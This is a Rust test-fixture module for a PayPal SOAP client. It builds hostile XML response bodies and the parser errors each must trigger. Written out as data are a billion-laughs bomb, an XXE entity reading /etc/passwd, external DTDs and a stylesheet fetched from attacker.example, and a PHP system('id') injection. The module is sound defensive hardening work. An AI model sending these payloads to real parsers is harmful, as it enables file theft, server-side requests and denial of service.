//! Hostile and broken response bodies, one per class the hardening issue lists, each built at a requested size
//! and paired with the outcome it must get. Shared by the `hostile_inputs` test (the typed error of every case)
//! and the `hostile` bench (worst time and peak memory of every case on a release build), through `#[path]`.
//!
//! Every body is a would-be `TransactionSearchResponse`, the answer with the most repeated content, decoded
//! with [`decode`]. Bodies are written here from scratch; none is a copy of a captured PayPal message.

#![allow(dead_code)] // Each includer uses part of the module.

use paypal_soap::generated::api::TransactionSearchResponseType;
use paypal_soap::generated::ns;
use paypal_soap::runtime::soap::{Body, Response, read_response_with_limits};
use paypal_soap::runtime::xml::{DecodeError, DecodeErrorKind, Limit, Limits};

/// A marker put in a string field of many bodies: no error text may ever repeat it.
pub(crate) const SECRET: &str = "pw-Secret-4711";

/// What decoding a body gives.
pub(crate) type Outcome = Result<Response<TransactionSearchResponseType>, DecodeError>;

/// Decodes `body` as the TransactionSearch response under the default limits, as the client does.
pub(crate) fn decode(body: &[u8]) -> Outcome {
    read_response_with_limits(body, ns::API, "TransactionSearchResponse", &Limits::DEFAULT)
}

/// What a case must get.
pub(crate) enum Expect {
    /// A typed error of the named shape.
    Error(&'static str, fn(&DecodeErrorKind) -> bool),
    /// A decoded response meeting the check (tolerated input, or input that is hostile only in size).
    Decoded(&'static str, fn(&Response<TransactionSearchResponseType>) -> bool),
}

/// One hostile body.
pub(crate) struct Case {
    /// The input class, in the issue's words.
    pub(crate) class: &'static str,
    /// This body within the class.
    pub(crate) name: &'static str,
    /// The body.
    pub(crate) body: Vec<u8>,
    /// What it must get.
    pub(crate) expect: Expect,
}

impl Case {
    /// Whether `outcome` is what this case expects.
    pub(crate) fn holds(&self, outcome: &Outcome) -> bool {
        match (&self.expect, outcome) {
            (Expect::Error(_, check), Err(e)) => check(e.kind()),
            (Expect::Decoded(_, check), Ok(r)) => check(r),
            _ => false,
        }
    }

    /// The expected outcome, for tables.
    pub(crate) fn expected(&self) -> &'static str {
        match self.expect {
            Expect::Error(what, _) | Expect::Decoded(what, _) => what,
        }
    }
}

const XML_DECL: &str = r#"<?xml version="1.0" encoding="UTF-8"?>"#;
const OPEN: &str = concat!(
    r#"<?xml version="1.0" encoding="UTF-8"?>"#,
    r#"<SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/" "#,
    r#"xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><SOAP-ENV:Body>"#,
    r#"<TransactionSearchResponse xmlns="urn:ebay:api:PayPalAPI">"#,
    r#"<Timestamp xmlns="urn:ebay:apis:eBLBaseComponents">2024-01-02T03:04:05Z</Timestamp>"#,
    r#"<Ack xmlns="urn:ebay:apis:eBLBaseComponents">Success</Ack>"#,
);
const CLOSE: &str = "</TransactionSearchResponse></SOAP-ENV:Body></SOAP-ENV:Envelope>";

/// One search result, with the secret marker as the payer's name.
const RESULT: &str = concat!(
    r#"<PaymentTransactions xmlns="urn:ebay:apis:eBLBaseComponents">"#,
    "<Timestamp>2024-01-02T03:04:05Z</Timestamp><Timezone>GMT</Timezone><Type>Payment</Type>",
    "<Payer>buyer@example.com</Payer><PayerDisplayName>pw-Secret-4711</PayerDisplayName>",
    "<TransactionID>0TX12345678901234</TransactionID><Status>Completed</Status>",
    r#"<GrossAmount currencyID="USD">1,000.00</GrossAmount><FeeAmount currencyID="USD">-29.30</FeeAmount>"#,
    r#"<NetAmount currencyID="USD">970.70</NetAmount></PaymentTransactions>"#,
);

/// `unit` repeated until the result has at least `size` bytes (at least once).
fn fill(unit: &str, size: usize) -> String {
    unit.repeat(size.div_ceil(unit.len()).max(1))
}

/// An envelope around `content`, which is placed after `Ack` inside the response element.
fn envelope(content: &str) -> String {
    format!("{OPEN}{content}{CLOSE}")
}

/// A valid response of about `size` bytes.
fn valid(size: usize) -> String {
    envelope(&fill(RESULT, size))
}

/// A response whose one search result has `text` as its payer.
fn with_payer(text: &str) -> String {
    envelope(&format!(
        r#"<PaymentTransactions xmlns="urn:ebay:apis:eBLBaseComponents"><Payer>{text}</Payer></PaymentTransactions>"#
    ))
}

/// A valid response of about `size` bytes, then `tail` inside the response element.
fn valid_then(size: usize, tail: &str) -> String {
    envelope(&format!("{}{tail}", fill(RESULT, size)))
}

/// A document type declaration with `subset` as its internal subset, before a valid response of `size` bytes.
fn with_doctype(subset: &str, size: usize) -> String {
    format!("<!DOCTYPE SOAP-ENV:Envelope [{subset}]>{}", valid(size).trim_start_matches(XML_DECL))
}

fn bytes(s: String) -> Vec<u8> {
    s.into_bytes()
}

fn error(what: &'static str, check: fn(&DecodeErrorKind) -> bool) -> Expect {
    Expect::Error(what, check)
}

fn limit(kind: &DecodeErrorKind, which: Limit) -> bool {
    matches!(kind, DecodeErrorKind::LimitExceeded { limit, .. } if *limit == which)
}

fn syntax(kind: &DecodeErrorKind) -> bool {
    matches!(kind, DecodeErrorKind::Syntax { .. })
}

/// Every case, with bodies of about `size` bytes where the class scales (a few are fixed by nature: a
/// billion-laughs header is small, an over-long text is just over its limit, an oversized input just over its).
pub(crate) fn cases(size: usize) -> Vec<Case> {
    let mut all = Vec::new();
    let mut add = |class, name, body: Vec<u8>, expect| all.push(Case { class, name, body, expect });
    let doctype = || error("Doctype", |k| matches!(k, DecodeErrorKind::Doctype));

    // DTDs and entities: refused at `<!DOCTYPE`, so nothing is declared, expanded or fetched.
    let laughs: String =
        (1..10).map(|i| format!(r#"<!ENTITY l{i} "{}">"#, format!("&l{};", i - 1).repeat(10))).collect();
    let laughs = format!(r#"<!ENTITY l0 "lol">{laughs}"#);
    add(
        "DTD and entities",
        "billion laughs",
        bytes(with_doctype(&laughs, size).replace("buyer@example.com", "&l9;")),
        doctype(),
    );
    let big = "x".repeat(size / 2);
    let quadratic = format!("<!DOCTYPE r [<!ENTITY a \"{big}\">]><r>{}</r>", "&a;".repeat(size / 6));
    add("DTD and entities", "quadratic blowup", bytes(quadratic), doctype());
    let xxe = with_doctype(r#"<!ENTITY xxe SYSTEM "file:///etc/passwd">"#, size).replace("buyer@example.com", "&xxe;");
    add("DTD and entities", "external entity (file)", bytes(xxe), doctype());
    let param = with_doctype(r#"<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;"#, size);
    add("DTD and entities", "parameter entity", bytes(param), doctype());
    let subset = format!(r#"<!DOCTYPE SOAP-ENV:Envelope SYSTEM "http://attacker.example/soap.dtd">{}"#, valid(size));
    add("DTD and entities", "external subset", bytes(subset.replacen(XML_DECL, "", 1)), doctype());
    let decls = fill(r#"<!ENTITY e "x">"#, size);
    add("DTD and entities", "huge internal subset", bytes(with_doctype(&decls, 64)), doctype());
    add(
        "DTD and entities",
        "undeclared entity, no DTD",
        bytes(valid(size).replace("buyer@example.com", "&xxe;")),
        error("UnknownEntity", |k| matches!(k, DecodeErrorKind::UnknownEntity { .. })),
    );

    // Processing instructions.
    let pi = |k: &DecodeErrorKind| matches!(k, DecodeErrorKind::ProcessingInstruction { .. });
    add(
        "processing instructions",
        "before the root",
        bytes(valid(size).replacen("?>", "?><?xml-stylesheet href=\"http://attacker.example/x.xsl\"?>", 1)),
        error("ProcessingInstruction", pi),
    );
    add(
        "processing instructions",
        "inside the body",
        bytes(valid_then(size, "<?php system('id'); ?>")),
        error("ProcessingInstruction", pi),
    );

    // Encodings other than UTF-8 and invalid UTF-8.
    let latin1 = valid(size).replacen("UTF-8", "ISO-8859-1", 1);
    add(
        "encodings and invalid UTF-8",
        "declared ISO-8859-1",
        bytes(latin1),
        error("UnsupportedEncoding", |k| matches!(k, DecodeErrorKind::UnsupportedEncoding { .. })),
    );
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(valid(size).replacen("UTF-8", "UTF-16", 1).encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    add(
        "encodings and invalid UTF-8",
        "UTF-16 with BOM",
        utf16,
        error("InvalidUtf8 or UnsupportedEncoding", |k| {
            matches!(k, DecodeErrorKind::InvalidUtf8 | DecodeErrorKind::UnsupportedEncoding { .. })
        }),
    );
    for (name, bad) in [
        ("invalid UTF-8 byte", &b"\xC3\x28"[..]),
        ("overlong UTF-8", b"\xC0\xAF"),
        ("UTF-8 surrogate", b"\xED\xA0\x80"),
    ] {
        let mut body = valid_then(size, "<X>").into_bytes();
        let at = body.len() - CLOSE.len() - 1;
        body.splice(at..at, bad.iter().copied());
        add(
            "encodings and invalid UTF-8",
            name,
            body,
            error("InvalidUtf8", |k| matches!(k, DecodeErrorKind::InvalidUtf8)),
        );
    }

    // Characters outside XML 1.0.
    let illegal = |k: &DecodeErrorKind| {
        matches!(k, DecodeErrorKind::IllegalCharacter { .. } | DecodeErrorKind::InvalidCharacterReference { .. })
    };
    for (name, text) in [
        ("raw U+0001", "a\u{1}b"),
        ("raw U+FFFF", "a\u{FFFF}b"),
        ("reference &#0;", "a&#0;b"),
        ("reference &#xFFFE;", "&#xFFFE;"),
        ("reference &#x110000;", "&#x110000;"),
    ] {
        add(
            "characters outside XML 1.0",
            name,
            bytes(valid_then(size, &format!("<Payer>{text}</Payer>"))),
            error("IllegalCharacter / InvalidCharacterReference", illegal),
        );
    }

    // Truncated documents, mismatched and unclosed tags.
    let whole = valid(size);
    let eof = |k: &DecodeErrorKind| matches!(k, DecodeErrorKind::UnexpectedEof { .. }) || syntax(k);
    add(
        "truncated documents",
        "cut in the middle",
        bytes(whole[..whole.len() / 2].to_owned()),
        error("UnexpectedEof or Syntax", eof),
    );
    let in_tag = whole.rfind("<Net").map_or(whole.len(), |i| i + 4);
    add(
        "truncated documents",
        "cut inside a start tag",
        bytes(whole[..in_tag].to_owned()),
        error("UnexpectedEof or Syntax", eof),
    );
    add(
        "truncated documents",
        "cut inside a comment",
        bytes(valid_then(size, "<!-- never closed")),
        error("UnexpectedEof or Syntax", eof),
    );
    add(
        "truncated documents",
        "cut inside CDATA",
        bytes(valid_then(size, "<Payer><![CDATA[never closed")),
        error("UnexpectedEof or Syntax", eof),
    );
    add(
        "mismatched and unclosed tags",
        "mismatched end tag",
        bytes(valid_then(size, "<Payer>x</Payee>")),
        error("MismatchedEndTag", |k| matches!(k, DecodeErrorKind::MismatchedEndTag { .. })),
    );
    add(
        "mismatched and unclosed tags",
        "unclosed elements",
        bytes(whole.trim_end_matches(CLOSE).to_owned()),
        error("UnexpectedEof", |k| matches!(k, DecodeErrorKind::UnexpectedEof { .. })),
    );
    let nested_open = fill("<Payer>", size);
    add(
        "mismatched and unclosed tags",
        "only start tags",
        bytes(format!("{OPEN}{nested_open}")),
        error("Depth limit or UnexpectedEof", |k| {
            limit(k, Limit::Depth) || matches!(k, DecodeErrorKind::UnexpectedEof { .. })
        }),
    );

    // Attributes and prefixes.
    let dup = |k: &DecodeErrorKind| matches!(k, DecodeErrorKind::DuplicateAttribute { .. });
    add(
        "duplicate attributes",
        "same name",
        bytes(valid_then(size, r#"<GrossAmount currencyID="USD" currencyID="EUR">1</GrossAmount>"#)),
        error("DuplicateAttribute", dup),
    );
    add(
        "duplicate attributes",
        "two prefixes, one namespace",
        bytes(valid_then(size, r#"<X xmlns:a="urn:x" xmlns:b="urn:x" a:c="1" b:c="2"/>"#)),
        error("DuplicateAttribute", dup),
    );
    let undeclared = |k: &DecodeErrorKind| matches!(k, DecodeErrorKind::UndeclaredPrefix { .. });
    add(
        "undeclared prefixes",
        "on an element",
        bytes(valid_then(size, "<evil:Payer>x</evil:Payer>")),
        error("UndeclaredPrefix", undeclared),
    );
    add(
        "undeclared prefixes",
        "on an attribute",
        bytes(valid_then(size, r#"<Payer evil:x="1">x</Payer>"#)),
        error("UndeclaredPrefix", undeclared),
    );

    // Content after the root, empty bodies.
    let after = |k: &DecodeErrorKind| matches!(k, DecodeErrorKind::ContentAfterRoot);
    add("content after the root", "text", bytes(format!("{whole}trailing")), error("ContentAfterRoot", after));
    add(
        "content after the root",
        "a second root",
        bytes(format!("{whole}{}", whole.trim_start_matches(XML_DECL))),
        error("ContentAfterRoot", after),
    );
    let empty = |k: &DecodeErrorKind| matches!(k, DecodeErrorKind::EmptyDocument);
    add("empty and whitespace-only bodies", "empty", Vec::new(), error("EmptyDocument", empty));
    add(
        "empty and whitespace-only bodies",
        "whitespace only",
        bytes(fill(" \r\n\t", size)),
        error("EmptyDocument", empty),
    );
    add(
        "empty and whitespace-only bodies",
        "declaration and comments only",
        bytes(format!("{XML_DECL}{}", fill("<!-- c -->", size))),
        error("EmptyDocument", empty),
    );

    // Bodies that are not SOAP at all.
    let html = format!(
        "<html><head><title>502 Bad Gateway</title></head><body><p>{}<br></body></html>",
        fill("upstream failed ", size)
    );
    add(
        "HTML and JSON bodies",
        "HTML error page",
        bytes(html),
        error("UnexpectedRoot (before the broken markup)", |k| matches!(k, DecodeErrorKind::UnexpectedRoot { .. })),
    );
    let xhtml = format!(
        r#"<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{}</p></body></html>"#,
        fill("upstream failed ", size)
    );
    add(
        "HTML and JSON bodies",
        "XHTML page",
        bytes(xhtml),
        error("UnexpectedRoot", |k| matches!(k, DecodeErrorKind::UnexpectedRoot { .. })),
    );
    let json = format!(r#"{{"name":"INTERNAL_SERVICE_ERROR","details":"{}"}}"#, fill("x", size));
    add(
        "HTML and JSON bodies",
        "JSON error",
        bytes(json),
        error("ContentBeforeRoot", |k| matches!(k, DecodeErrorKind::ContentBeforeRoot)),
    );

    // SOAP 1.2, another operation's answer, foreign namespaces reusing known names.
    let soap12 = whole.replace("http://schemas.xmlsoap.org/soap/envelope/", "http://www.w3.org/2003/05/soap-envelope");
    add(
        "SOAP 1.2 envelopes",
        "SOAP 1.2 envelope",
        bytes(soap12),
        error(
            "UnexpectedRoot (says SOAP 1.2)",
            |k| matches!(k, DecodeErrorKind::UnexpectedRoot { found, .. } if found.contains("SOAP 1.2")),
        ),
    );
    let other = whole.replace("TransactionSearchResponse", "DoCaptureResponse");
    add(
        "a different operation's response",
        "DoCaptureResponse",
        bytes(other),
        error("UnexpectedElement", |k| matches!(k, DecodeErrorKind::UnexpectedElement { .. })),
    );
    let foreign = fill(
        r#"<PaymentTransactions xmlns="urn:attacker"><Payer>x</Payer></PaymentTransactions><Ack xmlns="urn:attacker">Failure</Ack>"#,
        size,
    );
    add(
        "foreign namespaces reusing known names",
        "PaymentTransactions and Ack in urn:attacker",
        bytes(envelope(&foreign)),
        Expect::Decoded("decoded; foreign elements kept as findings, Ack stays Success", |r| {
            matches!(&r.body, Body::Response(v) if v.payment_transactions.is_empty()
                && v.ack == Some(paypal_soap::generated::ebl::AckCodeType::Success))
                && !r.report.is_clean()
        }),
    );
    let envelope_ns = whole.replace("http://schemas.xmlsoap.org/soap/envelope/", "urn:attacker");
    add(
        "foreign namespaces reusing known names",
        "Envelope in urn:attacker",
        bytes(envelope_ns),
        error("UnexpectedRoot", |k| matches!(k, DecodeErrorKind::UnexpectedRoot { .. })),
    );

    // Limits.
    add(
        "limits",
        "element depth",
        bytes(valid_then(64, &fill("<a>", size))),
        error("LimitExceeded(depth)", |k| limit(k, Limit::Depth)),
    );
    let attrs: String = (0..size / 12).map(|i| format!(" a{i}=\"1\"")).collect();
    add(
        "limits",
        "attributes per element",
        bytes(valid_then(64, &format!("<X{attrs}/>"))),
        error("LimitExceeded(attributes)", |k| limit(k, Limit::Attributes)),
    );
    let nsdecls: String = (0..size / 24).map(|i| format!(" xmlns:p{i}=\"urn:{i}\"")).collect();
    add(
        "limits",
        "namespace declarations",
        bytes(valid_then(64, &format!("<X{nsdecls}/>"))),
        error("LimitExceeded(namespace declarations)", |k| limit(k, Limit::NamespaceDeclarations)),
    );
    let over_text = Limits::DEFAULT.max_text_bytes + 1;
    add(
        "limits",
        "text value over 1 MiB",
        bytes(with_payer(&"x".repeat(over_text))),
        error("LimitExceeded(text length)", |k| limit(k, Limit::TextLength)),
    );
    add(
        "limits",
        "CDATA value over 1 MiB",
        bytes(with_payer(&format!("<![CDATA[{}]]>", "x".repeat(over_text)))),
        error("LimitExceeded(text length)", |k| limit(k, Limit::TextLength)),
    );
    add(
        "limits",
        "attribute value over 1 MiB",
        bytes(valid_then(64, &format!(r#"<X a="{}"/>"#, "x".repeat(over_text)))),
        error("LimitExceeded(text length)", |k| limit(k, Limit::TextLength)),
    );
    add(
        "limits",
        "entity references over 1 MiB",
        bytes(with_payer(&"&amp;".repeat(over_text))),
        error("LimitExceeded(text length)", |k| limit(k, Limit::TextLength)),
    );
    let findings = Limits::DEFAULT.max_findings + 1;
    add(
        "limits",
        "unknown elements over the findings limit",
        bytes(envelope(&"<u/>".repeat(findings.max(size / 4)))),
        error("LimitExceeded(findings)", |k| limit(k, Limit::Findings)),
    );
    add(
        "limits",
        "input over 16 MiB",
        bytes(fill(" ", Limits::DEFAULT.max_input_bytes + 1)),
        error("LimitExceeded(input size)", |k| limit(k, Limit::InputSize)),
    );

    // Malformed markup.
    for (name, tail) in [
        ("attribute without quotes", "<X a=1/>"),
        ("'<' in an attribute value", r#"<X a="<"/>"#),
        ("']]>' in text", "<Payer>a]]>b</Payer>"),
        ("'--' in a comment", "<!-- a -- b -->"),
        ("a bare '&'", "<Payer>a & b</Payer>"),
        ("invalid element name", "<1Payer>x</1Payer>"),
    ] {
        add(
            "malformed markup",
            name,
            bytes(valid_then(size, tail)),
            error("Syntax or InvalidName", |k| {
                syntax(k) || matches!(k, DecodeErrorKind::InvalidName { .. } | DecodeErrorKind::UnknownEntity { .. })
            }),
        );
    }

    // Values that do not parse.
    add(
        "invalid values",
        "timestamp 'yesterday'",
        bytes(valid_then(
            size,
            r#"<PaymentTransactions xmlns="urn:ebay:apis:eBLBaseComponents"><Timestamp>yesterday</Timestamp></PaymentTransactions>"#,
        )),
        error("InvalidValue", |k| matches!(k, DecodeErrorKind::InvalidValue { .. })),
    );
    add(
        "invalid values",
        "timestamp of 2,048 digits",
        bytes(valid_then(
            size,
            &format!(
                r#"<PaymentTransactions xmlns="urn:ebay:apis:eBLBaseComponents"><Timestamp>{}</Timestamp></PaymentTransactions>"#,
                "9".repeat(2048)
            ),
        )),
        error(
            "InvalidValue (text cut)",
            |k| matches!(k, DecodeErrorKind::InvalidValue { text, .. } if text.len() < 400),
        ),
    );

    // Hostile only in size, and tolerated: these must decode.
    add(
        "valid but large",
        "TransactionSearch results",
        bytes(valid(size)),
        Expect::Decoded("decoded, clean report", |r| {
            matches!(&r.body, Body::Response(v) if !v.payment_transactions.is_empty()) && r.report.is_clean()
        }),
    );
    add(
        "valid but large",
        "one long comment",
        bytes(valid_then(64, &format!("<!--{}-->", fill("c", size)))),
        Expect::Decoded("decoded", |r| matches!(r.body, Body::Response(_))),
    );
    let long_name = format!("<{n}>x</{n}>", n = fill("N", size / 2));
    add(
        "valid but large",
        "unknown element with a huge name",
        bytes(valid_then(64, &long_name)),
        Expect::Decoded("decoded; the element kept as a finding", |r| r.report.findings.len() == 1),
    );
    all
}
